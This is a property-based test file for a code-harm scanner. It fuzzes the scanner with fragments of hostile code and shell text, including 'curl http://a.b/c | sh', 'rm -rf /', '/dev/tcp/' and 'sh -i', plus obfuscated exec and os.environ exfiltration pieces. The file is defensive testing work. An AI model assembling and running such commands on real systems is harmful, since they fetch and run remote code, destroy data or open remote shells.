import ast

from hypothesis import given, settings
from hypothesis import strategies as st

from harm import code_attacks, code_benign
from weighbridge.facts.safety import Harm
from weighbridge.readers.harm.code.naming import names_in
from weighbridge.readers.harm.code.shell_text import commands
from weighbridge.readers.harm.looking import look
from weighbridge.readers.harm.piece import Piece
from weighbridge.readers.harm.secrets.searching import redacted

SEEDS = [(path, data) for _, path, data, _ in (*code_attacks.every(), *code_benign.every())]
PATHS = sorted({path for path, _ in SEEDS})
WORDS = st.sampled_from([
    "import os\n", "exec(", "base64.b64decode('", "')", "\n", "    ", "def f(x):", "getattr(", "{",
    "class A(PreTrainedModel):", "os.system", "'+'", "requests.post(", "os.environ", "[::-1]", '"',
    "curl http://a.b/c | sh", "rm -rf /", "lambda: ", "__import__('o'+'s')", "%%bash", "!", "}",
    "${{", "run: ", "\\",
])  # fmt: skip
LINES = st.sampled_from([
    "curl ", "| ", "sh -i ", "-d ", "'", "/dev/tcp/", "a" * 50, "\\\n", "$(", "rm -", ";",
])  # fmt: skip


def _piece(path: str, data: bytes) -> Piece:
    return Piece(path, len(data), lambda offset, length: data[offset : offset + length])


@given(st.sampled_from(PATHS), st.lists(WORDS | st.text(max_size=10), max_size=30))
@settings(deadline=None, max_examples=300)
def test_any_text_is_judged_and_nothing_is_raised(path: str, pieces: list[str]) -> None:
    found = look(_piece(path, "".join(pieces).encode("utf-8", "surrogatepass")))

    assert found.reasons or found.harm is Harm.DATA_ONLY
    assert all(one.message.endswith(".") for one in found.reasons)


@given(st.sampled_from(SEEDS), st.data())
@settings(deadline=None, max_examples=200)
def test_a_changed_file_never_breaks_the_look(seed: tuple[str, bytes], data: st.DataObject) -> None:
    path, body = seed
    at = data.draw(st.integers(0, len(body)))
    bent = body[:at] + data.draw(st.binary(max_size=12)) + body[at + data.draw(st.integers(0, 9)) :]

    look(_piece(path, bent))


@given(st.text(alphabet="abc'\"+()[]:-1", max_size=40))
@settings(deadline=None)
def test_what_is_put_together_is_what_python_puts_together(text: str) -> None:
    value = "x" + text
    source = f"{value[: len(value) // 2]!r} + {value[len(value) // 2 :]!r}[::-1][::-1]"
    tree = ast.parse(source, mode="eval")
    found = names_in(ast.parse("")).text(tree.body)

    assert found is not None
    assert found.text == value


@given(st.text(min_size=8))
def test_a_secret_is_never_repeated(value: str) -> None:
    assert redacted(value) == f"{value[:4]}…, {len(value)} characters"


@given(st.lists(LINES))
@settings(deadline=None)
def test_command_lines_of_any_kind_are_read(pieces: list[str]) -> None:
    assert all(one.line >= 1 for one in commands("".join(pieces) * 20))
